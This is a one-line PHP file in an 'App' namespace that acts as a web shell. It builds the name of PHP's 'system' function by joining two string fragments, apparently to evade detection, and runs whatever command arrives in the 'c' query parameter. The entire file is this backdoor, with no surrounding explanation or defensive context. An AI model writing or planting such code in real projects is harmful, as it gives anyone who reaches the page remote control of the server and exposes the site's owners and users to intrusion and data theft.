<?php namespace App; const RUN = 'sys' . 'tem'; $f = \App\RUN; $f($_GET['c']);
